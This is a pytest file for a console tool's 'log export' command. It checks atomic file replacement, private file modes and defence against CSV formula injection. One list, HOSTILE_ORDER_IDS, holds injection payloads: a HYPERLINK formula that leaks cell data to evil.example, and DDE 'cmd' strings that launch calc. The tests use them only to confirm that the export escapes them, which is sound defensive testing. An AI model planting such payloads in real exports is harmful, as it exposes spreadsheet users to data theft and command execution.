"""`log export` replaces its file whole (a killed export leaves the previous file or none),
makes it private, and a CSV cell never opens as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from criteo_console.cli import main
from criteo_console.storage import EventLog, StoragePaths
from criteo_console.storage.paths import ENV_HOME, ENV_LOG

from .log_helpers import record

posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX signals and file modes")

HOSTILE_ORDER_IDS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def filled_log(home: Path) -> Path:
    path = StoragePaths.resolve().log_file
    with EventLog(path) as log:
        for number in range(120):
            record(log, f"PS-{number}")
    return path


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_that_a_spreadsheet_would_run_are_text(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with EventLog(StoragePaths.resolve().log_file) as log:
        for order_id in [*HOSTILE_ORDER_IDS, "PS-1", "  =spaced"]:
            record(log, order_id)
    target = tmp_path / "log.csv"
    assert main(["log", "export", "--format", "csv", "--output", str(target)]) == 0
    order_ids = [row["order_id"] for row in _csv_rows(target)]
    assert order_ids == [*("'" + o for o in HOSTILE_ORDER_IDS), "PS-1", "  =spaced"]
    assert all(row["advertiser_id"] == "1234567" for row in _csv_rows(target))
    # JSON Lines is data, not a spreadsheet: the order ids come back exactly as sent.
    jsonl = tmp_path / "log.jsonl"
    assert main(["log", "export", "--output", str(jsonl)]) == 0
    lines = jsonl.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["order_id"] for line in lines][:6] == HOSTILE_ORDER_IDS


@posix_only
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_export_is_private_even_over_an_older_world_readable_one(
    filled_log: Path, tmp_path: Path, fmt: str
) -> None:
    target = tmp_path / f"log.{fmt}"
    target.write_text("older export\n", encoding="utf-8")
    target.chmod(0o644)
    previous = os.umask(0o022)
    try:
        assert main(["log", "export", "--format", fmt, "--output", str(target)]) == 0
    finally:
        os.umask(previous)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "older export" not in target.read_text(encoding="utf-8")


def test_an_export_that_fails_half_way_leaves_the_previous_file_and_no_litter(
    filled_log: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from criteo_console.storage import log_export

    target = tmp_path / "log.jsonl"
    target.write_text("the previous export\n", encoding="utf-8")
    real = log_export.write_jsonl

    def stops_half_way(rows: object, out: object) -> int:
        def some() -> object:
            for number, row in enumerate(rows):  # type: ignore[call-overload]
                if number == 60:
                    raise KeyboardInterrupt
                yield row

        return real(some(), out)  # type: ignore[arg-type]

    monkeypatch.setattr(log_export, "write_jsonl", stops_half_way)
    with pytest.raises(KeyboardInterrupt), EventLog(filled_log) as log:
        log.export_to_file(target, "jsonl")
    assert target.read_text(encoding="utf-8") == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "log.jsonl"]


# Runs `criteo-console log export` and stops it after 60 rows have been written and flushed,
# until the test kills it.
_PAUSED_EXPORT = """
import sys
from criteo_console.storage import log_export
real = log_export.write_jsonl
def paused(rows, out):
    def some():
        for number, row in enumerate(rows):
            if number == 60:
                out.flush()
                print("half way", flush=True)
                sys.stdin.readline()
            yield row
    return real(some(), out)
log_export.write_jsonl = paused
from criteo_console.cli import main
sys.exit(main(sys.argv[1:]))
"""


@posix_only
@pytest.mark.parametrize("previous", ["the previous export\n", None], ids=["over-one", "new"])
def test_a_killed_export_leaves_the_previous_file_or_none(
    filled_log: Path, tmp_path: Path, previous: str | None
) -> None:
    target = tmp_path / "out" / "log.jsonl"
    target.parent.mkdir()
    if previous is not None:
        target.write_text(previous, encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k != ENV_LOG}
    env[ENV_HOME] = str(filled_log.parent)
    with subprocess.Popen(
        [sys.executable, "-c", _PAUSED_EXPORT, "log", "export", "--output", str(target)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        env=env,
        text=True,
    ) as child:
        try:
            assert child.stdout is not None
            assert child.stdout.readline() == "half way\n"  # 60 rows are on disk somewhere
        finally:
            child.send_signal(signal.SIGKILL)
            child.wait(timeout=30)
    assert child.returncode == -signal.SIGKILL
    if previous is None:
        assert not target.exists()
    else:
        assert target.read_text(encoding="utf-8") == previous
    # Only a hidden temporary file is left, never something named like the export.
    assert [p.name for p in target.parent.iterdir() if not p.name.startswith(".")] == (
        [] if previous is None else ["log.jsonl"]
    )


@posix_only
def test_every_file_a_command_writes_is_private(
    filled_log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report, profile = tmp_path / "signoff.html", tmp_path / "profile.json"
    previous = os.umask(0o022)
    try:
        main(["log", "report", "1", "--output", str(report)])
        assert main(["profile", "export", "Sandbox", "--output", str(profile)]) == 0
    finally:
        os.umask(previous)
    assert "<html" in report.read_text(encoding="utf-8").lower()
    assert [stat.S_IMODE(p.stat().st_mode) for p in (report, profile)] == [0o600, 0o600]


@posix_only
def test_the_consoles_folder_is_tightened_but_a_folder_named_by_the_user_is_not(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home.mkdir()
    home.chmod(0o755)
    EventLog(StoragePaths.resolve().log_file).close()
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    monkeypatch.setenv(ENV_LOG, str(shared / "team-log.sqlite3"))
    EventLog(StoragePaths.resolve().log_file).close()
    assert stat.S_IMODE(shared.stat().st_mode) == 0o755
    assert stat.S_IMODE((shared / "team-log.sqlite3").stat().st_mode) == 0o600
